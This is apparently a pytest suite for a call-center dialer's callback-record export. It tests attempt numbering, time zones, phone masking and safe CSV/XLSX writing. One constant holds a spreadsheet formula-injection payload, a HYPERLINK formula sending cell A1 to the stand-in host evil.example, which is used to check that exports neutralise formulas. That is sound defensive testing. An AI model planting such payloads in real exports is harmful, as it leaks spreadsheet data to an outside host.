"""The callback record (dialer.records) on SQLite and PostgreSQL: one row per attempt, numbered,
local times in each customer's own zone, numbers masked unless revealed, safe atomic files."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from seeding import seed
from sqlalchemy import update

from dialer.campaigns import CampaignSpec, load_campaign
from dialer.clock import SettableClock
from dialer.errors import NotFoundError
from dialer.models import Agent, Attempt, CallbackTask, Customer, Outcome
from dialer.records import (
    COLUMNS,
    ExportFormat,
    RecordRow,
    Window,
    count_records,
    default_filename,
    find_campaign,
    iter_records,
    write_export,
)
from dialer.store import Store

CAMPAIGNS = Path(__file__).parents[2] / "campaigns"
SLUG = "after-service-satisfaction"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def spec() -> CampaignSpec:
    return load_campaign(CAMPAIGNS / f"{SLUG}.toml")


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).astimezone(UTC)


def add_attempt(
    store: Store,
    task_id: int,
    number: int,
    placed: datetime | None,
    *,
    created: datetime,
    channel: str = "voice",
    phone: str = "+886912345670",
    state: str = "completed",
    status: str | None = "completed",
    **extra: object,
) -> int:
    with store.transaction() as s:
        task = s.get(CallbackTask, task_id)
        assert task is not None
        a = Attempt(
            task_id=task_id,
            customer_id=task.customer_id,
            number=number,
            channel=channel,
            phone_e164=phone,
            state=state,
            due_at=created,
            created_at=created,
            placed_at=placed,
            provider_status=status,
            **extra,
        )
        s.add(a)
        s.flush()
        return int(a.id)


def rows(
    store: Store, reveal: bool = False, window: Window = Window(), **kw: int
) -> list[RecordRow]:
    with store.sessions() as s:
        cid, zone = find_campaign(s, SLUG)
        return list(iter_records(s, cid, SLUG, zone, reveal=reveal, window=window, **kw))


@pytest.fixture
def record(store: Store, clock: SettableClock, spec: CampaignSpec) -> Iterator[list[int]]:
    """Two Taipei tasks: the first tried three times (answered on the third), the second once."""
    tasks = seed(store, clock, spec, n=2)
    t0 = clock.now()  # 2026-11-23 02:00 UTC = 10:00 Taipei
    with store.transaction() as s:
        agent = Agent(username="mei", display_name="Mei Lin", created_at=t0)
        s.add(agent)
        s.flush()
        agent_id = agent.id
    # Created out of placement order on purpose: numbering follows when each was placed.
    third = add_attempt(store, tasks[0], 3, t0 + timedelta(hours=5), created=t0 + timedelta(hours=4),
                        answered_by="human", duration_seconds=74, agent_id=agent_id)  # fmt: skip
    add_attempt(store, tasks[0], 1, t0, created=t0 - timedelta(minutes=1), status="busy")
    add_attempt(store, tasks[0], 2, t0 + timedelta(hours=2), created=t0 + timedelta(hours=2),
                status="no-answer")  # fmt: skip
    add_attempt(store, tasks[1], 1, None, created=t0, state="scheduled", status=None,
                phone="+886912345671")  # fmt: skip
    with store.transaction() as s:
        s.add(
            Outcome(
                task_id=tasks[0],
                attempt_id=third,
                name="unsatisfied",
                channel="voice",
                answer="unsatisfied",
                reason="waited too long",
                digits="3",
                note="@SUM(A1:A9)",
                agent_id=agent_id,
                recorded_at=t0 + timedelta(hours=5, minutes=2),
            )
        )
        s.execute(
            update(CallbackTask).where(CallbackTask.id == tasks[0]).values(outcome="unsatisfied")
        )
    yield tasks


def test_one_row_per_attempt_numbered_in_placement_order(store: Store, record: list[int]) -> None:
    got = rows(store)
    assert [(r.task, r.attempt, r.provider_status) for r in got] == [
        (record[0], 1, "busy"),
        (record[0], 2, "no-answer"),
        (record[0], 3, "completed"),
        (record[1], 1, ""),
    ]
    with store.sessions() as s:
        cid, _ = find_campaign(s, SLUG)
        assert count_records(s, cid) == 4
    third = got[2]
    assert (third.outcome, third.answer, third.reason, third.digits) == (
        "unsatisfied",
        "unsatisfied",
        "waited too long",
        "3",
    )
    assert (third.answered_by, third.duration_seconds, third.agent) == ("human", 74, "Mei Lin")
    assert third.customer_id == "C0" and third.campaign == SLUG and third.channel == "voice"
    # The answer is on the attempt that got it only; the task's outcome is on each of its rows.
    assert [r.answer for r in got[:2]] == ["", ""] and got[0].outcome == "unsatisfied"
    assert got[3].status == "scheduled" and got[3].placed_at == "" and got[3].local_time == ""


def test_times_in_utc_and_in_the_taipei_customers_zone(store: Store, record: list[int]) -> None:
    first = rows(store)[0]
    assert first.placed_at == "2026-11-23T02:00:00+00:00"
    assert first.time_zone == "Asia/Taipei"
    assert first.local_time == "2026-11-23T10:00:00+08:00"


@pytest.mark.parametrize(
    ("zone", "placed", "local"),
    [
        ("Asia/Seoul", "2026-11-23T02:00:00+00:00", "2026-11-23T11:00:00+09:00"),
        # Los Angeles: daylight time in July (UTC-7), standard time in November (UTC-8).
        ("America/Los_Angeles", "2026-07-01T19:00:00+00:00", "2026-07-01T12:00:00-07:00"),
        ("America/Los_Angeles", "2026-11-23T20:00:00+00:00", "2026-11-23T12:00:00-08:00"),
        # 2026-11-01 09:30 UTC is 01:30 PST, just after the clocks went back.
        ("America/Los_Angeles", "2026-11-01T09:30:00+00:00", "2026-11-01T01:30:00-08:00"),
    ],
)
def test_local_time_in_other_zones_is_dst_correct(
    store: Store, clock: SettableClock, spec: CampaignSpec, zone: str, placed: str, local: str
) -> None:
    region = "KR" if zone == "Asia/Seoul" else "US"
    tasks = seed(store, clock, spec, n=1, zone=zone, region=region)
    add_attempt(store, tasks[0], 1, at(placed), created=at(placed) - timedelta(minutes=5))
    (row,) = rows(store)
    assert (row.time_zone, row.placed_at, row.local_time) == (zone, placed, local)


def test_customer_without_zone_uses_the_campaigns_default(
    store: Store, clock: SettableClock, spec: CampaignSpec
) -> None:
    tasks = seed(store, clock, spec, n=1)
    with store.transaction() as s:
        s.execute(update(Customer).values(time_zones=[]))
    add_attempt(store, tasks[0], 1, clock.now(), created=clock.now())
    (row,) = rows(store)
    assert row.time_zone == spec.default_time_zone == "Asia/Taipei"
    assert row.local_time == "2026-11-23T10:00:00+08:00"


def test_numbers_masked_unless_revealed(store: Store, record: list[int]) -> None:
    masked = [r.phone for r in rows(store)]
    assert masked[0] == "+886 9•••••670" and all("912345" not in p for p in masked)
    assert rows(store, reveal=True)[0].phone == "+886912345670"


def test_window_filters_rows_but_keeps_attempt_numbers(
    store: Store, clock: SettableClock, record: list[int]
) -> None:
    t0 = clock.now()
    window = Window(since=t0 + timedelta(hours=1), until=t0 + timedelta(hours=6))
    got = rows(store, window=window)
    assert [(r.task, r.attempt) for r in got] == [(record[0], 2), (record[0], 3)]
    with store.sessions() as s:
        cid, _ = find_campaign(s, SLUG)
        assert count_records(s, cid, window) == 2


def test_small_batches_give_the_same_rows(store: Store, record: list[int]) -> None:
    assert rows(store, batch_tasks=1) == rows(store)


def test_unknown_campaign_is_not_found(store: Store) -> None:
    with store.sessions() as s, pytest.raises(NotFoundError, match="no-such"):
        find_campaign(s, "no-such")


@pytest.fixture
def dangerous(store: Store, record: list[int]) -> list[int]:
    with store.transaction() as s:
        s.execute(update(Customer).where(Customer.customer_key == "C0").values(name=HYPERLINK))
    return record


def test_csv_export_neutralises_formulas(
    store: Store, dangerous: list[int], tmp_path: Path
) -> None:
    (out := tmp_path / "out").mkdir()
    target = out / "r.csv"
    assert write_export(rows(store, reveal=True), ExportFormat.CSV, target) == 4
    with target.open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    assert tuple(table[0]) == COLUMNS
    body = [dict(zip(COLUMNS, line, strict=True)) for line in table[1:]]
    assert body[0]["customer_name"] == "'" + HYPERLINK
    assert body[2]["note"] == "'@SUM(A1:A9)"
    assert body[0]["phone"] == "+886912345670"  # a number is not a formula: left as it is
    assert [line["attempt"] for line in body] == ["1", "2", "3", "1"]
    assert list(out.iterdir()) == [target]


def test_xlsx_export_neutralises_formulas(
    store: Store, dangerous: list[int], tmp_path: Path
) -> None:
    target = tmp_path / "r.xlsx"
    assert write_export(rows(store), ExportFormat.XLSX, target) == 4
    ws = load_workbook(target).active
    assert ws is not None
    table = [[c.value for c in line] for line in ws.iter_rows()]
    assert tuple(table[0]) == COLUMNS
    name_col, note_col = COLUMNS.index("customer_name"), COLUMNS.index("note")
    assert table[1][name_col] == "'" + HYPERLINK
    assert table[3][note_col] == "'@SUM(A1:A9)"
    assert all(c.data_type != "f" for line in ws.iter_rows() for c in line)
    assert table[1][COLUMNS.index("attempt")] == 1 and table[1][COLUMNS.index("phone")].endswith(
        "670"
    )
    assert "912345" not in str(table)


@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_failed_export_leaves_nothing_behind(
    store: Store, record: list[int], tmp_path: Path, fmt: ExportFormat
) -> None:
    def broken() -> Iterator[RecordRow]:
        yield from rows(store)[:2]
        raise RuntimeError("database went away")

    (out := tmp_path / "out").mkdir()
    with pytest.raises(RuntimeError):
        write_export(broken(), fmt, out / f"r.{fmt.value}")
    assert list(out.iterdir()) == []


def test_default_filename() -> None:
    now = datetime(2026, 11, 23, 23, 30, tzinfo=UTC)
    assert default_filename(SLUG, ExportFormat.XLSX, now) == f"records-{SLUG}-2026-11-23.xlsx"
